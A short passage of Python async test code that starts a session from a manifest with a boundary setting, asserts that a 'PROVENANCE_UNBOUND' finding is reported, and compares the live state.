        live = await office.begin(manifest(boundary=boundary))
        assert await office.found() == ["PROVENANCE_UNBOUND", BOUND]
        await same(office, live)

    play(act())
